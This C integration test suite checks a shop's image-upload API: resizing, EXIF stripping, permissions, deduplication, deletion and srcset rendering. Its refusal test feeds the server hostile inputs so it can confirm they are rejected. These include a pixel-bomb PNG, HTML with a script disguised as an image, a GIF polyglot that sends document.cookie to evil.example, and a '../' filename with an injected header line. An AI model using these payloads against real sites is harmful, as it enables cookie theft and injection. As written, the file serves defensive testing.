/*
 * check_media.c — image uploads through the running shop (POST
 * /api/v1/media, multipart/form-data) and what they leave behind.
 *
 *   - JPEG, PNG, WebP and GIF (made here with MagickWand, 1700x1000) each
 *     come back in every size (160, 480, 960, 1600) as WebP and JPEG; the
 *     files are served by the web server with the right type and a
 *     year-long immutable cache lifetime, and decode to the sizes listed.
 *   - A JPEG with an EXIF orientation is turned upright and its metadata
 *     stripped; a narrow image is never upscaled; a 40-megapixel photo
 *     (just under the cap) is accepted.
 *   - Refusals leave nothing (no row, no file, no event): a PNG declaring
 *     30000x30000 pixels (413), a truncated JPEG (415), HTML named .png
 *     (415), a GIF89a header followed by a script (415), a filename with
 *     ../ and CR/LF (400), a seller on a product not theirs (404), a
 *     customer (403) and a guest (401).
 *   - A seller uploads to, reads, changes and deletes on their own
 *     product; another seller gets 404 for all of it.
 *   - The product gets the image (media_id) and its page a srcset; alt
 *     text and order change; the owner list is public; the same bytes
 *     uploaded twice share files, which go with the last item using them;
 *     media.uploaded and media.deleted are in media.outbox; the search
 *     page's card of the product (after a relay pass) has the srcset too.
 *   - Removing a product image through the catalog API releases its media
 *     item and files, whoever uploaded it (another seller: 404); archiving
 *     the product keeps its images and media.
 *   - Category, brand and banner uploads must name one that exists (404
 *     "no category with id ..."); deleting one releases its media.
 *   - The home page shows a banner inside its date window with its upload
 *     as <picture>/srcset/sizes/width/height, not an ended or future one,
 *     and only the first banner is the main one; the wishlist shows a
 *     product's upload the same way at thumbnail size, and so does the
 *     cart, which knows the picture by its URL only.
 *   - Category tiles show a top category's upload on the home page and a
 *     subcategory's on its parent's page with srcset and sizes.
 * Without ECOM_TEST_BASE_URL the suite is skipped (77).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <curl/curl.h>
#include <check.h>
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wstrict-prototypes"
#include <wand/MagickWand.h>
#pragma GCC diagnostic pop

#include "../check_run.h"
#include "http_client.h"

#define BOUNDARY "----checkmediaBoundary7MA4YWxkTrZu0gW"

static char *admin_tok, *seller_tok, *customer_tok;
static char *product_id, *product_slug, *category_id, *brand_id, *banner_id;

/* ------------------------------------------------------------ helpers */

static long
psql_count(const char *sql)
{
	char *v = psql_value(sql);
	long n;

	ck_assert_ptr_nonnull(v);
	n = strtol(v, NULL, 10);
	free(v);
	return n;
}

typedef struct grow { char *p; size_t len; } grow;

static size_t
grow_write(char *d, size_t sz, size_t n, void *ud)
{
	grow *g = ud;
	char *np = realloc(g->p, g->len + sz * n + 1);

	if (np == NULL)
		return 0;
	memcpy(np + g->len, d, sz * n);
	g->p = np;
	g->len += sz * n;
	g->p[g->len] = '\0';
	return sz * n;
}

/* A multipart body: fields (name, value pairs, NULL-terminated) and one
 * file part (skipped when data is NULL). */
static char *
mp_body(const char *const *fields, const char *filename, const char *ctype,
    const void *data, size_t len, size_t *outlen)
{
	grow g = { NULL, 0 };
	char head[1024];

	for (; fields != NULL && fields[0] != NULL; fields += 2) {
		snprintf(head, sizeof head, "--" BOUNDARY "\r\nContent-Disposition: form-data; "
		    "name=\"%s\"\r\n\r\n%s\r\n", fields[0], fields[1]);
		grow_write(head, 1, strlen(head), &g);
	}
	if (data != NULL) {
		snprintf(head, sizeof head, "--" BOUNDARY "\r\nContent-Disposition: form-data; "
		    "name=\"file\"; filename=\"%s\"\r\nContent-Type: %s\r\n\r\n", filename, ctype);
		grow_write(head, 1, strlen(head), &g);
		grow_write((char *)data, 1, len, &g);
		grow_write("\r\n", 1, 2, &g);
	}
	grow_write("--" BOUNDARY "--\r\n", 1, strlen("--" BOUNDARY "--\r\n"), &g);
	*outlen = g.len;
	return g.p;
}

/* POST the body to /api/v1/media with a Bearer token (or none). */
static http_result *
upload_raw(const char *tok, const char *body, size_t len)
{
	http_result *r = calloc(1, sizeof *r);
	grow hb = { NULL, 0 }, bb = { NULL, 0 };
	struct curl_slist *hl = NULL;
	char url[1024], auth[4096];
	CURL *c = curl_easy_init();

	ck_assert_ptr_nonnull(r);
	snprintf(url, sizeof url, "%s/api/v1/media", test_base_url());
	hl = curl_slist_append(hl, "Content-Type: multipart/form-data; boundary=" BOUNDARY);
	hl = curl_slist_append(hl, "X-Forwarded-For: 198.51.100.91");
	hl = curl_slist_append(hl, "Expect:");
	if (tok != NULL) {
		snprintf(auth, sizeof auth, "Authorization: Bearer %s", tok);
		hl = curl_slist_append(hl, auth);
	}
	curl_easy_setopt(c, CURLOPT_URL, url);
	curl_easy_setopt(c, CURLOPT_POST, 1L);
	curl_easy_setopt(c, CURLOPT_POSTFIELDS, body);
	curl_easy_setopt(c, CURLOPT_POSTFIELDSIZE, (long)len);
	curl_easy_setopt(c, CURLOPT_HTTPHEADER, hl);
	curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, grow_write);
	curl_easy_setopt(c, CURLOPT_WRITEDATA, &bb);
	curl_easy_setopt(c, CURLOPT_HEADERFUNCTION, grow_write);
	curl_easy_setopt(c, CURLOPT_HEADERDATA, &hb);
	curl_easy_setopt(c, CURLOPT_TIMEOUT, 60L);
	ck_assert_int_eq(curl_easy_perform(c), CURLE_OK);
	curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &r->status);
	curl_slist_free_all(hl);
	curl_easy_cleanup(c);
	r->headers = hb.p != NULL ? hb.p : strdup("");
	r->body = bb.p != NULL ? bb.p : strdup("");
	r->body_len = bb.len;
	r->json = json_tokener_parse(r->body);
	return r;
}

static http_result *
upload(const char *tok, const char *owner_type, const char *owner_id, const char *alt,
    const char *filename, const char *ctype, const void *data, size_t len)
{
	const char *fields[] = { "owner_type", owner_type, "owner_id", owner_id,
	    alt != NULL ? "alt_text" : NULL, alt, NULL };
	size_t blen;
	char *body = mp_body(fields, filename, ctype, data, len, &blen);
	http_result *r = upload_raw(tok, body, blen);

	free(body);
	return r;
}

static http_result *
call(const char *tok, const char *method, const char *path, const char *body)
{
	return http_as("198.51.100.91", tok, method, path, body);
}

/* An image of w x h in the given format ("PNG", "JPEG", ...), one colour
 * with a stripe so sizes differ in content; malloc'd. */
static unsigned char *
make_image(const char *format, size_t w, size_t h, const char *color, int orientation,
    size_t *len)
{
	MagickWand *mw = NewMagickWand();
	PixelWand *pw = NewPixelWand();
	DrawingWand *dw = NewDrawingWand();
	PixelWand *stripe = NewPixelWand();
	unsigned char *blob, *out;

	PixelSetColor(pw, color);
	ck_assert(MagickNewImage(mw, w, h, pw));
	PixelSetColor(stripe, "#204080");
	DrawSetFillColor(dw, stripe);
	DrawRectangle(dw, 0, 0, (double)w / 3, (double)h / 2);
	MagickDrawImage(mw, dw);
	ck_assert(MagickSetImageFormat(mw, format));
	blob = MagickGetImageBlob(mw, len);
	ck_assert_ptr_nonnull(blob);
	if (orientation) {
		/* an EXIF APP1 right after SOI: one IFD entry, Orientation (0x0112) */
		static const unsigned char app1[] = {
			0xff, 0xe1, 0x00, 0x22, 'E', 'x', 'i', 'f', 0, 0,
			'M', 'M', 0, 0x2a, 0, 0, 0, 8, 0, 1,
			0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0 };
		ck_assert(blob[0] == 0xff && blob[1] == 0xd8);
		out = malloc(*len + sizeof app1);
		memcpy(out, blob, 2);
		memcpy(out + 2, app1, sizeof app1);
		out[2 + 29] = (unsigned char)orientation;
		memcpy(out + 2 + sizeof app1, blob + 2, *len - 2);
		*len += sizeof app1;
	} else {
		out = malloc(*len);
		memcpy(out, blob, *len);
	}
	MagickRelinquishMemory(blob);
	DestroyDrawingWand(dw);
	DestroyPixelWand(stripe);
	DestroyPixelWand(pw);
	DestroyMagickWand(mw);
	return out;
}

/* Fetch a URL path of the shop; 1 and its bytes decoded to w x h. */
static void
fetch_image(const char *url, const char *want_type, long want_w, long want_h)
{
	http_result *r = http_get(url);
	char v[256];
	MagickWand *mw;

	ck_assert_msg(r->status == 200, "%s: %ld", url, r->status);
	ck_assert(http_header(r, "content-type", v, sizeof v));
	ck_assert_msg(strcmp(v, want_type) == 0, "%s: type %s", url, v);
	ck_assert(http_header(r, "cache-control", v, sizeof v));
	ck_assert_msg(strstr(v, "max-age=31536000") != NULL && strstr(v, "immutable") != NULL,
	    "%s: cache %s", url, v);
	/* the bytes are what the name and type say */
	if (strcmp(want_type, "image/webp") == 0)
		ck_assert_msg(r->body_len > 12 && memcmp(r->body, "RIFF", 4) == 0 &&
		    memcmp(r->body + 8, "WEBP", 4) == 0, "%s is not WebP", url);
	else
		ck_assert_msg(r->body_len > 3 && memcmp(r->body, "\xff\xd8\xff", 3) == 0,
		    "%s is not JPEG", url);
	mw = NewMagickWand();
	ck_assert(MagickPingImageBlob(mw, r->body, r->body_len));
	ck_assert_msg((long)MagickGetImageWidth(mw) == want_w &&
	    (long)MagickGetImageHeight(mw) == want_h, "%s: %zux%zu, want %ldx%ld", url,
	    MagickGetImageWidth(mw), MagickGetImageHeight(mw), want_w, want_h);
	/* no metadata left */
	ck_assert_msg(memmem(r->body, r->body_len, "Exif", 4) == NULL, "%s keeps EXIF", url);
	DestroyMagickWand(mw);
	http_result_free(r);
}

/* One pass of the outbox relay with the in-tree consumers (the search
 * indexer learns of the product's new primary image). */
static void
run_relay(void)
{
	const char *bin = getenv("ECOM_TEST_BIN");
	char cmd[1024];

	ck_assert_ptr_nonnull(bin);
	snprintf(cmd, sizeof cmd, "ECOM_LOG_LEVEL=error %s/../workers/relay --budget 0"
	    " >/dev/null 2>&1", bin);
	ck_assert_int_eq(system(cmd), 0);
}

static int
suite_setup_done;

static void
setup(void)
{
	char *row, *bar;

	if (suite_setup_done)
		return;
	MagickWandGenesis();
	curl_global_init(CURL_GLOBAL_DEFAULT);
	row = psql_value("SELECT gen_random_uuid()");
	admin_tok = mint_token("admin", row);
	free(row);
	row = psql_value("SELECT gen_random_uuid()");
	seller_tok = mint_token("seller", row);
	free(row);
	row = psql_value("SELECT gen_random_uuid()");
	customer_tok = mint_token("customer", row);
	free(row);
	row = psql_value("SELECT id || '|' || slug FROM catalog.products WHERE status = 'published'"
	    " AND seller_id IS NULL ORDER BY created_at, id LIMIT 1");
	ck_assert_ptr_nonnull(row);
	bar = strchr(row, '|');
	ck_assert_ptr_nonnull(bar);
	*bar = '\0';
	product_id = strdup(row);
	product_slug = strdup(bar + 1);
	free(row);
	category_id = psql_value("SELECT id FROM catalog.categories ORDER BY created_at, id LIMIT 1");
	ck_assert_msg(category_id != NULL && strlen(category_id) == 36, "no category");
	brand_id = psql_value("SELECT id FROM catalog.brands ORDER BY created_at, id LIMIT 1");
	ck_assert_msg(brand_id != NULL && strlen(brand_id) == 36, "no brand");
	banner_id = psql_value("SELECT id FROM catalog.banners ORDER BY created_at, id LIMIT 1");
	ck_assert_msg(banner_id != NULL && strlen(banner_id) == 36, "no banner");
	suite_setup_done = 1;
}

static void
skip_without_stack(void)
{
	if (test_base_url() == NULL || getenv("ECOM_TEST_PSQL") == NULL)
		exit(77);
}

/* ------------------------------------------------------------ tests */

static const struct { const char *format, *name, *ctype, *color, *kind; } formats[] = {
	{ "JPEG", "photo.jpg", "image/jpeg", "#e03020", "jpeg" },
	{ "PNG", "drawing.png", "image/png", "#30c040", "png" },
	{ "WEBP", "pic.webp", "image/webp", "#a0a0f0", "webp" },
	{ "GIF", "anim.gif", "image/gif", "#f0e000", "gif" },
};

START_TEST(round_trips_every_format)
{
	static const int widths[] = { 160, 480, 960, 1600 };
	size_t len;
	unsigned char *img;
	http_result *r;
	char q[512];

	setup();
	img = make_image(formats[_i].format, 1700, 1000, formats[_i].color, 0, &len);
	/* the declared type is ignored: judged by content */
	r = upload(admin_tok, "category", category_id, "a swatch", formats[_i].name,
	    "application/octet-stream", img, len);
	ck_assert_msg(r->status == 201, "%s: %ld %s", formats[_i].format, r->status, r->body);
	ck_assert_str_eq(jstr(r->json, "data.source_format"), formats[_i].kind);
	ck_assert_int_eq(jint(r->json, "data.width"), 1600);
	ck_assert_int_eq(jint(r->json, "data.height"), 941);
	ck_assert_int_eq(json_object_array_length(jpath(r->json, "data.variants")), 8);
	for (size_t i = 0; i < 4; i++) {
		char key[64];
		long h = (1000L * widths[i] + 850) / 1700;

		snprintf(key, sizeof key, "data.urls.%d.webp", widths[i]);
		ck_assert(strncmp(jstr(r->json, key), "/media/u/", 9) == 0);
		fetch_image(jstr(r->json, key), "image/webp", widths[i], h);
		snprintf(key, sizeof key, "data.urls.%d.jpeg", widths[i]);
		fetch_image(jstr(r->json, key), "image/jpeg", widths[i], h);
	}
	/* nothing in any name comes from the upload */
	ck_assert_ptr_null(strstr(r->body, formats[_i].name));
	snprintf(q, sizeof q, "SELECT count(*) FROM media.variants WHERE media_id = '%s'",
	    jstr(r->json, "data.id"));
	ck_assert_int_eq(psql_count(q), 8);
	/* clean up: category media is admin's to delete */
	snprintf(q, sizeof q, "/api/v1/media/%s", jstr(r->json, "data.id"));
	http_result_free(r);
	r = call(admin_tok, "DELETE", q, NULL);
	ck_assert_int_eq(r->status, 200);
	http_result_free(r);
	free(img);
}
END_TEST

START_TEST(orients_and_never_upscales)
{
	size_t len;
	unsigned char *img;
	http_result *r;
	char q[256];

	setup();
	/* 400x200 stored sideways (EXIF orientation 6: rotate 90 clockwise) */
	img = make_image("JPEG", 400, 200, "#808000", RightTopOrientation, &len);
	ck_assert(memmem(img, len, "Exif", 4) != NULL);
	r = upload(admin_tok, "brand", brand_id, NULL, "side.jpg", "image/jpeg", img, len);
	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
	/* upright: 200 wide, 400 high; sizes 160 and the original 200 only */
	ck_assert_int_eq(jint(r->json, "data.width"), 200);
	ck_assert_int_eq(jint(r->json, "data.height"), 400);
	ck_assert_int_eq(json_object_array_length(jpath(r->json, "data.variants")), 4);
	ck_assert_ptr_null(jpath(r->json, "data.urls.480"));
	fetch_image(jstr(r->json, "data.urls.200.jpeg"), "image/jpeg", 200, 400);
	fetch_image(jstr(r->json, "data.urls.160.webp"), "image/webp", 160, 320);
	snprintf(q, sizeof q, "/api/v1/media/%s", jstr(r->json, "data.id"));
	http_result_free(r);
	r = call(admin_tok, "DELETE", q, NULL);
	ck_assert_int_eq(r->status, 200);
	http_result_free(r);
	free(img);
}
END_TEST

/* Near the pixel cap (6400x6200, 39.7 megapixels) is still accepted. */
START_TEST(accepts_a_large_photo)
{
	size_t len;
	unsigned char *img;
	http_result *r;
	char q[256];

	setup();
	img = make_image("JPEG", 6400, 6200, "#806040", 0, &len);
	r = upload(admin_tok, "banner", banner_id, NULL, "big.jpg", "image/jpeg", img, len);
	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
	ck_assert_int_eq(jint(r->json, "data.width"), 1600);
	ck_assert_int_eq(jint(r->json, "data.height"), 1550);
	snprintf(q, sizeof q, "/api/v1/media/%s", jstr(r->json, "data.id"));
	http_result_free(r);
	r = call(admin_tok, "DELETE", q, NULL);
	ck_assert_int_eq(r->status, 200);
	http_result_free(r);
	free(img);
}
END_TEST

/* Each refusal: the status, and no row, file or event left. */
static void
refused(http_result *r, long want, const char *what)
{
	ck_assert_msg(r->status == want, "%s: %ld, want %ld: %s", what, r->status, want, r->body);
	if (want != 401 && r->json != NULL)
		ck_assert_msg(jpath(r->json, "error.code") != NULL, "%s: no error envelope", what);
	http_result_free(r);
}

/* A seller's own product: the seller uploads, reads, changes and deletes;
 * another seller sees none of it. */
START_TEST(seller_on_own_product)
{
	size_t len;
	unsigned char *img;
	http_result *r;
	char path[256], pid[64], mid[64], *other_sub, *other_tok;

	setup();
	r = call(seller_tok, "POST", "/api/v1/products",
	    "{\"name\":\"Media test lamp\",\"base_price\":1999,\"currency\":\"EUR\"}");
	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
	snprintf(pid, sizeof pid, "%s", jstr(r->json, "data.id"));
	http_result_free(r);
	img = make_image("WEBP", 640, 480, "#ffcc00", 0, &len);
	r = upload(seller_tok, "product", pid, "Lamp", "lamp.webp", "image/webp", img, len);
	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
	snprintf(mid, sizeof mid, "%s", jstr(r->json, "data.id"));
	http_result_free(r);
	other_sub = psql_value("SELECT gen_random_uuid()");
	other_tok = mint_token("seller", other_sub);
	r = upload(other_tok, "product", pid, NULL, "x.webp", "image/webp", img, len);
	refused(r, 404, "another seller's product");
	snprintf(path, sizeof path, "/api/v1/media/%s", mid);
	r = call(other_tok, "GET", path, NULL);
	ck_assert_int_eq(r->status, 404);
	http_result_free(r);
	r = call(other_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 404);
	http_result_free(r);
	r = call(seller_tok, "PUT", path, "{\"alt_text\":null}");
	ck_assert_int_eq(r->status, 200);
	ck_assert_str_eq(jstr(r->json, "data.alt_text"), "");
	http_result_free(r);
	r = call(seller_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 200);
	http_result_free(r);
	snprintf(path, sizeof path, "/api/v1/products/%s", pid);
	r = call(seller_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 200);
	http_result_free(r);
	free(other_sub);
	free(other_tok);
	free(img);
}
END_TEST

START_TEST(refuses_and_writes_nothing)
{
	long items, files, events;
	size_t jlen;
	unsigned char *jpeg;
	http_result *r;

	setup();
	items = psql_count("SELECT count(*) FROM media.items");
	events = psql_count("SELECT count(*) FROM media.outbox");
	files = media_upload_files();

	/* a PNG that declares 30000x30000 pixels */
	{
		unsigned char bomb[64] = {
			0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 'I', 'H', 'D', 'R',
			0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30, 8, 2, 0, 0, 0, 0, 0, 0, 0 };
		r = upload(admin_tok, "category", category_id, NULL, "bomb.png", "image/png",
		    bomb, sizeof bomb);
		refused(r, 413, "30000x30000 PNG");
	}
	/* a JPEG cut in half */
	jpeg = make_image("JPEG", 800, 600, "#336699", 0, &jlen);
	r = upload(admin_tok, "category", category_id, NULL, "cut.jpg", "image/jpeg", jpeg, jlen / 2);
	refused(r, 415, "truncated JPEG");
	/* HTML with an image's name and type */
	{
		static const char html[] = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>";
		r = upload(admin_tok, "category", category_id, NULL, "cat.png", "image/png",
		    html, sizeof html - 1);
		refused(r, 415, "HTML named .png");
	}
	/* a polyglot: a GIF89a header (1x1 screen) followed by a script */
	{
		static const char poly[] = "GIF89a\x01\x00\x01\x00\x00\x00\x00"
		    "<script>document.location='//evil.example/'+document.cookie</script>";
		r = upload(admin_tok, "category", category_id, NULL, "poly.gif", "image/gif",
		    poly, sizeof poly - 1);
		refused(r, 415, "GIF89a polyglot");
	}
	/* a filename with ../ and CR/LF: the multipart parser refuses it */
	r = upload(admin_tok, "category", category_id, NULL, "../../etc/x.png\r\nX-Injected: 1",
	    "image/png", jpeg, jlen);
	refused(r, 400, "filename with ../ and CRLF");
	/* a body over the upload limit */
	{
		size_t big = 11 * 1024 * 1024;
		char *b = malloc(big);
		memset(b, 'x', big);
		r = upload_raw(admin_tok, b, big);
		refused(r, 413, "11 MiB body");
		free(b);
	}
	/* who may upload to what */
	r = upload(seller_tok, "product", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
	refused(r, 404, "seller on the shop's product");
	r = upload(seller_tok, "category", category_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
	refused(r, 403, "seller on a category");
	r = upload(customer_tok, "product", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
	refused(r, 403, "customer");
	r = upload(NULL, "product", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
	refused(r, 401, "guest");
	/* a missing file and a bad owner */
	r = upload(admin_tok, "product", product_id, NULL, NULL, NULL, NULL, 0);
	refused(r, 400, "no file");
	r = upload(admin_tok, "planet", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
	refused(r, 400, "bad owner_type");
	/* not multipart at all */
	r = call(admin_tok, "POST", "/api/v1/media", "{}");
	refused(r, 415, "JSON body");

	ck_assert_int_eq(psql_count("SELECT count(*) FROM media.items"), items);
	ck_assert_int_eq(psql_count("SELECT count(*) FROM media.outbox"), events);
	ck_assert_int_eq(media_upload_files(), files);
	free(jpeg);
}
END_TEST

START_TEST(product_images_alt_order_and_delete)
{
	size_t len;
	unsigned char *img;
	http_result *r, *r2;
	char q[1024], path[256], id1[64], id2[64], url[256];
	long files;

	setup();
	files = media_upload_files();
	img = make_image("PNG", 1000, 800, "#10a0a0", 0, &len);
	r = upload(admin_tok, "product", product_id, "Teal & <b>bold</b>", "t.png", "image/png", img, len);
	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
	snprintf(id1, sizeof id1, "%s", jstr(r->json, "data.id"));
	snprintf(url, sizeof url, "%s", jstr(r->json, "data.urls.960.webp"));
	http_result_free(r);
	/* the same bytes again share the files */
	r = upload(admin_tok, "product", product_id, NULL, "again.png", "image/png", img, len);
	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
	snprintf(id2, sizeof id2, "%s", jstr(r->json, "data.id"));
	ck_assert_str_eq(jstr(r->json, "data.urls.960.webp"), url);
	http_result_free(r);
	ck_assert_int_eq(media_upload_files(), files + 8);

	/* the product lists both as images, from the media library */
	snprintf(q, sizeof q, "SELECT count(*) FROM catalog.images WHERE product_id = '%s'"
	    " AND media_id IN ('%s', '%s')", product_id, id1, id2);
	ck_assert_int_eq(psql_count(q), 2);
	/* the owner list is public */
	snprintf(path, sizeof path, "/api/v1/media/owner/product/%s", product_id);
	r = call(NULL, "GET", path, NULL);
	ck_assert_int_eq(r->status, 200);
	ck_assert_ptr_nonnull(strstr(r->body, id1));
	ck_assert_ptr_nonnull(strstr(r->body, id2));
	http_result_free(r);
	/* the product page: srcset, sizes, width and height, alt escaped */
	snprintf(path, sizeof path, "/p/%s", product_slug);
	r = http_get(path);
	ck_assert_int_eq(r->status, 200);
	ck_assert_msg(strstr(r->body, "type=\"image/webp\" srcset=\"/media/u/") != NULL, "%s", r->body);
	ck_assert_ptr_nonnull(strstr(r->body, " 960w"));
	ck_assert_ptr_nonnull(strstr(r->body, "sizes=\""));
	ck_assert_ptr_nonnull(strstr(r->body, "Teal &amp; &lt;b&gt;bold&lt;/b&gt;"));
	ck_assert_ptr_null(strstr(r->body, "<b>bold</b>"));
	http_result_free(r);

	/* a listing card of the product (once the upload is its primary
	 * image): the same, at card sizes */
	{
		char *iid;
		snprintf(q, sizeof q, "SELECT id FROM catalog.images WHERE media_id = '%s'", id1);
		iid = psql_value(q);
		snprintf(path, sizeof path, "/api/v1/products/%s/images/%s", product_id, iid);
		r = call(admin_tok, "PUT", path, "{\"is_primary\":true}");
		ck_assert_msg(r->status == 200, "%ld %s", r->status, r->body);
		http_result_free(r);
		free(iid);
		run_relay();	/* the search page shows what the indexer was told */
	}
	{
		char *name, *enc;
		CURL *c = curl_easy_init();
		snprintf(q, sizeof q, "SELECT name FROM catalog.products WHERE id = '%s'", product_id);
		name = psql_value(q);
		enc = curl_easy_escape(c, name, 0);
		snprintf(path, sizeof path, "/search?q=%s", enc);
		r = http_get(path);
		ck_assert_int_eq(r->status, 200);
		ck_assert_msg(strstr(r->body, "<picture><source type=\"image/webp\" srcset=\"/media/u/") != NULL,
		    "no srcset on %s", path);
		ck_assert_ptr_nonnull(strstr(r->body, "sizes=\"(max-width: 40em) 50vw, 16em\""));
		http_result_free(r);
		curl_free(enc);
		curl_easy_cleanup(c);
		free(name);
	}

	/* alt text and order */
	snprintf(path, sizeof path, "/api/v1/media/%s", id1);
	r = call(admin_tok, "PUT", path, "{\"alt_text\":\"Teal mug\",\"sort_order\":7}");
	ck_assert_msg(r->status == 200, "%ld %s", r->status, r->body);
	ck_assert_str_eq(jstr(r->json, "data.alt_text"), "Teal mug");
	ck_assert_int_eq(jint(r->json, "data.sort_order"), 7);
	http_result_free(r);
	r = call(admin_tok, "PUT", path, "{\"sort_order\":\"x\"}");
	ck_assert_int_eq(r->status, 400);
	http_result_free(r);
	r = call(seller_tok, "GET", path, NULL);
	ck_assert_int_eq(r->status, 404);	/* not the seller's upload */
	http_result_free(r);
	r = call(admin_tok, "GET", path, NULL);
	ck_assert_int_eq(r->status, 200);
	ck_assert_str_eq(jstr(r->json, "data.alt_text"), "Teal mug");
	http_result_free(r);

	/* delete the first: the shared files stay */
	r = call(seller_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 404);
	http_result_free(r);
	r = call(admin_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 200);
	ck_assert_str_eq(jstr(r->json, "data.status"), "deleted");
	http_result_free(r);
	r2 = http_get(url);
	ck_assert_int_eq(r2->status, 200);
	http_result_free(r2);
	ck_assert_int_eq(media_upload_files(), files + 8);
	/* the second: the files go too, and the product's images */
	snprintf(path, sizeof path, "/api/v1/media/%s", id2);
	r = call(admin_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 200);
	http_result_free(r);
	ck_assert_int_eq(media_upload_files(), files);
	/* lighttpd may answer from its stat cache for a moment */
	for (int i = 0; i < 30; i++) {
		r2 = http_get(url);
		long st = r2->status;
		http_result_free(r2);
		if (st == 404)
			break;
		ck_assert_msg(i < 29, "%s still served: %ld", url, st);
		usleep(200 * 1000);
	}
	snprintf(q, sizeof q, "SELECT count(*) FROM catalog.images WHERE media_id IN ('%s', '%s')",
	    id1, id2);
	ck_assert_int_eq(psql_count(q), 0);
	r = call(admin_tok, "GET", path, NULL);
	ck_assert_int_eq(r->status, 404);
	http_result_free(r);
	/* events: uploaded and deleted for each */
	snprintf(q, sizeof q, "SELECT count(*) FROM media.outbox WHERE aggregate_id IN ('%s', '%s')"
	    " AND event_type = 'ecommerce.media.uploaded'", id1, id2);
	ck_assert_int_eq(psql_count(q), 2);
	snprintf(q, sizeof q, "SELECT count(*) FROM media.outbox WHERE aggregate_id IN ('%s', '%s')"
	    " AND event_type = 'ecommerce.media.deleted'", id1, id2);
	ck_assert_int_eq(psql_count(q), 2);
	free(img);
}
END_TEST

/* The media item of `id` is gone (0) or still there (1). */
static long
item_count(const char *id)
{
	char q[256];

	snprintf(q, sizeof q, "SELECT count(*) FROM media.items WHERE id = '%s'", id);
	return psql_count(q);
}

/* An upload's id (static buffer) after a 201. */
static const char *
uploaded(http_result *r)
{
	static char id[64];

	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
	snprintf(id, sizeof id, "%s", jstr(r->json, "data.id"));
	http_result_free(r);
	return id;
}

/* DELETE /api/v1/products/{id}/images/{iid} releases the media item the
 * image was made from, and its files, whoever uploaded it: here the admin
 * uploaded a picture to a seller's product and the seller removes it. */
START_TEST(catalog_image_delete_releases_media)
{
	size_t len;
	unsigned char *img;
	http_result *r;
	char q[512], path[256], pid[64], mid[64], *iid, *other_sub, *other_tok;
	long files;

	setup();
	files = media_upload_files();
	r = call(seller_tok, "POST", "/api/v1/products",
	    "{\"name\":\"Media release vase\",\"base_price\":2500,\"currency\":\"EUR\"}");
	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
	snprintf(pid, sizeof pid, "%s", jstr(r->json, "data.id"));
	http_result_free(r);
	img = make_image("PNG", 700, 500, "#c04080", 0, &len);
	snprintf(mid, sizeof mid, "%s", uploaded(upload(admin_tok, "product", pid, "Vase",
	    "vase.png", "image/png", img, len)));
	ck_assert_int_gt(media_upload_files(), files);
	snprintf(q, sizeof q, "SELECT id FROM catalog.images WHERE media_id = '%s'", mid);
	iid = psql_value(q);
	ck_assert_msg(iid != NULL && strlen(iid) == 36, "no catalog image for %s", mid);
	snprintf(path, sizeof path, "/api/v1/products/%s/images/%s", pid, iid);
	/* another seller: 404, and nothing goes */
	other_sub = psql_value("SELECT gen_random_uuid()");
	other_tok = mint_token("seller", other_sub);
	r = call(other_tok, "DELETE", path, NULL);
	ck_assert_msg(r->status == 404, "%ld %s", r->status, r->body);
	http_result_free(r);
	ck_assert_int_eq(item_count(mid), 1);
	/* the product's seller */
	r = call(seller_tok, "DELETE", path, NULL);
	ck_assert_msg(r->status == 200, "%ld %s", r->status, r->body);
	http_result_free(r);
	snprintf(q, sizeof q, "SELECT count(*) FROM catalog.images WHERE id = '%s'", iid);
	ck_assert_int_eq(psql_count(q), 0);
	ck_assert_msg(item_count(mid) == 0, "media item %s left after its image went", mid);
	ck_assert_int_eq(media_upload_files(), files);
	snprintf(q, sizeof q, "SELECT count(*) FROM media.outbox WHERE aggregate_id = '%s'"
	    " AND event_type = 'ecommerce.media.deleted'", mid);
	ck_assert_int_eq(psql_count(q), 1);
	r = call(seller_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 404);
	http_result_free(r);
	/* archiving the product keeps its images and their media (it can be
	 * published again; orders still show it) */
	snprintf(mid, sizeof mid, "%s", uploaded(upload(seller_tok, "product", pid, NULL,
	    "vase2.png", "image/png", img, len)));
	snprintf(path, sizeof path, "/api/v1/products/%s", pid);
	r = call(seller_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 200);
	http_result_free(r);
	ck_assert_int_eq(item_count(mid), 1);
	snprintf(q, sizeof q, "SELECT count(*) FROM catalog.images WHERE media_id = '%s'", mid);
	ck_assert_int_eq(psql_count(q), 1);
	snprintf(path, sizeof path, "/api/v1/media/%s", mid);
	r = call(seller_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 200);
	http_result_free(r);
	ck_assert_int_eq(media_upload_files(), files);
	free(iid);
	free(other_sub);
	free(other_tok);
	free(img);
}
END_TEST

/* Category, brand and banner uploads name one that exists (404 with the
 * id otherwise, nothing written); deleting the owner releases its items. */
START_TEST(owners_must_exist_and_take_their_media)
{
